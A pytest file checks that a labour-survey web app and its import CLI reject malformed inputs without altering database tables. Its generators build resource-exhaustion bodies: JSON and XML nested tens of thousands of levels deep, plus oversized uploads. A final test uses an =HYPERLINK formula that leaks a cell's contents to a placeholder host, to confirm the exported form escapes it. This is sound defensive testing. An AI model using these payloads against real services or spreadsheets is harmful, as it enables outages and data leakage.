"""The catalogue of bad inputs (tests/bad_inputs/cases.toml): each case sent as a real client sends it.

HTTP cases go to the app served by uvicorn, over one keep-alive connection,
so that an answer which broke the connection would fail the next request;
file cases run ``labour-atlas import ...`` (surveys, targets, recruiters,
recruitment events, incidents, boundaries). Every case reads the state of
every table an input could touch (row counts and a checksum of the rows)
before and after: only the quarantine entries and records the case expects
may be added, and nothing else may change.

The catalogue runs on a private copy of the seeded database: a case that
wrongly succeeded would otherwise change the data of other tests.
"""

from __future__ import annotations

import datetime as dt
import json
import tomllib
import uuid
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import unescape

import httpx
import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from cli.main import app as cli_app
from geodata import db
from tests.bad_input_files import MAKERS
from tests.payloads import NOW, basic

CATALOGUE = Path(__file__).parent / "bad_inputs"
CASES = tomllib.loads((CATALOGUE / "cases.toml").read_text(encoding="utf-8"))["case"]
# HTTP channels: method, path, who sends (a role with province 42 as its area; admin: the whole country).
HTTP = {
    "api": ("POST", "/api/v1/submissions", "officer"),
    "batch": ("POST", "/api/v1/submissions/batch", "officer"),
    "openrosa": ("POST", "/openrosa/submission", "surveyor"),
    "incident-api": ("POST", "/api/v1/incidents", "officer"),
    "targets-api": ("PUT", "/api/v1/targets", "officer"),
    "users-api": ("POST", "/api/v1/admin/users", "admin"),
}
# File channels: the import command.
IMPORTS = {"csv": "surveys", "targets": "targets", "recruiters": "recruiters", "events": "recruitment-events",
           "incidents": "incidents", "boundaries": "boundaries"}
BOUNDARY = "----labour-atlas-test-boundary"
# What an input could touch, as rows: each table's row count and a checksum of its rows (in a fixed order).
TABLES = {
    "survey_record": "SELECT * FROM survey_record",
    "probable_duplicate": "SELECT * FROM probable_duplicate",
    "submission_quarantine": "SELECT * FROM submission_quarantine",
    "target": "SELECT * FROM target",
    "recruiter": "SELECT * FROM recruiter",
    "recruitment_event": "SELECT * FROM recruitment_event",
    "incident": "SELECT * FROM incident",
    "unit_population": "SELECT * FROM unit_population",
    "admin_unit": "SELECT structure, code, name, unit_type, parent_code, geom_quality, name_in_file, md5(ST_AsEWKB(geom)) FROM admin_unit",
    "admin_unit_part": "SELECT code, md5(ST_AsEWKB(geom)) FROM admin_unit_part",
    "boundary_import": "SELECT * FROM boundary_import",
    "unit_crosswalk": "SELECT * FROM unit_crosswalk",
    # Sign-ins change an account's last sign-in and failure count: not what an input could corrupt.
    "app_user": "SELECT id, username, role, disabled FROM app_user",
    "user_scope": "SELECT * FROM user_scope",
}


def state(engine) -> dict[str, tuple[int, str]]:
    """Each table of TABLES: (rows, md5 of the rows' md5s in order)."""
    with engine.connect() as conn:
        return {name: tuple(conn.execute(text(
            f"SELECT count(*), coalesce(md5(string_agg(md5(t::text), '' ORDER BY md5(t::text))), '') FROM ({query}) t")).one())
            for name, query in TABLES.items()}


def multipart(xml: bytes, attachment: bytes = b"") -> bytes:
    """The body ODK Collect posts: the instance, and optionally a photo."""
    parts = [(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="xml_submission_file"; filename="submission.xml"\r\n'
              "Content-Type: text/xml\r\n\r\n").encode() + xml + b"\r\n"]
    if attachment:
        parts.append((f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="photo.jpg"; filename="photo.jpg"\r\n'
                      "Content-Type: image/jpeg\r\n\r\n").encode() + attachment + b"\r\n")
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def deep_json() -> bytes:
    """A body nested 100,000 levels deep (each one different, so none is taken for a retry of another)."""
    return b'{"instance_id": "' + str(uuid.uuid4()).encode() + b'", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


GENERATORS = {
    "deep_json": deep_json,
    "deep_json_array": lambda: b'[{"unit_code": "42", "notes": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]",
    "big_json": lambda: json.dumps({"kind": "aspirant", "full_name": "Nguyễn " * 50_000}).encode(),
    "big_batch": lambda: json.dumps([{"kind": "aspirant", "full_name": "Nguyễn " * 1000}] * 800).encode(),
    "deep_xml": lambda: b'<labour_survey id="labour_survey">' + b"<g>" * 50_000 + b"x" + b"</g>" * 50_000 + b"</labour_survey>",
    "big_openrosa": lambda: b"<labour_survey/>" + b"\0" * 0 + b"x" * (12 * 1024 * 1024),
}


def filled(data: bytes, commune: dict) -> bytes:
    """A catalogue file with its placeholders filled in (as bytes: the files' encodings are part of the case)."""
    values = {
        "instance_id": str(uuid.uuid4()), "instance_id_2": str(uuid.uuid4()),
        "collected_at": (NOW - dt.timedelta(hours=1)).isoformat(), "commune": commune["code"],
        "lat": f"{commune['lat']:.6f}", "lon": f"{commune['lon']:.6f}",
    }
    for key, value in values.items():
        data = data.replace(b"{{" + key.encode() + b"}}", value.encode())
    return data


@pytest.fixture(scope="module")
def catalogue_db(server, seeded_url, accounts):
    """A private copy of the seeded database (the senders' accounts made first, so the copy has them)."""
    for role in ("officer", "surveyor"):
        accounts.user(role, ("42",))
    accounts.user("admin", ())
    if db.current_url() == db.normalise_url(seeded_url):
        db.close_database()
    url = server.create_database(template=seeded_url)
    engine = db.use_database(url)
    yield engine
    server.drop_database(url)
    db.use_database(seeded_url)


@pytest.fixture(scope="module")
def http(catalogue_db) -> Iterator[httpx.Client]:
    from tests.conftest import served

    with served() as base, httpx.Client(base_url=base, timeout=60) as c:
        yield c


def send(case: dict, body: bytes, http: httpx.Client, accounts) -> tuple[int, str]:
    """Post a case's body as its client does; the status and what a reader of the answer sees."""
    method, path, role = HTTP[case["channel"]]
    if case["channel"] == "openrosa":
        u = accounts.user(role, ("42",))
        headers = {**basic(u.name, u.password), "X-OpenRosa-Version": "1.0", "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
        body = multipart(body) if case.get("generate") != "big_openrosa" else multipart(b"<x/>", body)
    else:
        headers = {**accounts.headers(role, () if role == "admin" else ("42",)), "Content-Type": "application/json"}
    content = iter([body[i:i + 65536] for i in range(0, len(body), 65536)]) if case.get("chunked") else body
    r = http.request(method, path, content=content, headers=headers)
    said = r.text
    if case["channel"] == "openrosa":
        assert r.headers["content-type"].startswith("text/xml") and "<OpenRosaResponse" in said
        said = unescape(said)  # the message as ODK Collect shows it
    else:
        assert r.headers["content-type"].startswith("application/json")
        answer = r.json()
        assert "detail" in answer
        # "field: message" and "loc: msg", as a reader of the answer sees them.
        said += "".join(f"\n{e['field']}: {e['message']}" for e in answer.get("errors") or ())
        if isinstance(answer["detail"], list):
            said += "".join(f"\n{'.'.join(map(str, e['loc']))}: {e['msg']}" for e in answer["detail"])
    assert "Traceback" not in said
    # The connection (or a new one) still serves.
    assert http.get("/health").status_code == 200
    return r.status_code, said


def run_import(case: dict, path: Path) -> tuple[int, str]:
    result = CliRunner().invoke(cli_app, ["import", IMPORTS[case["channel"]], str(path), *case.get("args", ())])
    assert "Traceback" not in result.output
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, result.output


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_bad_input(case, request, catalogue_db, commune, accounts, tmp_path):
    engine = catalogue_db
    if "make" in case:
        path = MAKERS[case["make"]](tmp_path, engine, commune)
        body = path.read_bytes() if path.is_file() else b""
    else:
        body = GENERATORS[case["generate"]]() if "generate" in case else filled((CATALOGUE / case["file"]).read_bytes(), commune)
        path = tmp_path / case.get("file", f"generated.{'csv' if case['channel'] != 'boundaries' else 'geojson'}")
        path.write_bytes(body)
    before = state(engine)
    if case["channel"] in IMPORTS:
        status, said = run_import(case, path)
    else:
        status, said = send(case, body, request.getfixturevalue("http"), accounts)
    after = state(engine)
    assert status == case["status"], said
    for fragment in [case["says"], *case.get("also_says", ())]:
        assert fragment in said, f"{fragment!r} not in: {said}"
    assert after["survey_record"][0] - before["survey_record"][0] == case.get("stored", 0), "survey records added"
    assert after["submission_quarantine"][0] - before["submission_quarantine"][0] == case.get("quarantined", 0), "quarantine entries added"
    expected_changes = ({"submission_quarantine"} if case.get("quarantined") else set()) | (
        {"survey_record", "probable_duplicate"} if case.get("stored") else set())
    changed = {t for t in TABLES if before[t] != after[t]} - expected_changes
    assert changed == set(), f"tables changed by a refused input: {sorted(changed)}"


def test_a_formula_in_a_form_label_is_written_as_text():
    """Every cell of the XLSForm the app writes goes through geodata.text.safe_cell: openpyxl stores text that starts
    with "=" as a formula, which Excel would run (=HYPERLINK sends the reader away)."""
    import dataclasses
    from io import BytesIO

    from openpyxl import load_workbook

    from survey.definition import FORM
    from survey.xlsform import xlsform_bytes

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào")'
    fields = tuple(dataclasses.replace(f, vi=formula) if f.name == "surveyor" else f for f in FORM.fields)
    book = load_workbook(BytesIO(xlsform_bytes(dataclasses.replace(FORM, fields=fields))))
    cells = [c for row in book["survey"].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert ("s", "'" + formula) in [(c.data_type, c.value) for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith("=")] == []
    # The real form has no such label: its cells are unchanged by the rule.
    plain = load_workbook(BytesIO(xlsform_bytes(FORM)))
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for ws in plain for row in ws.iter_rows() for c in row)
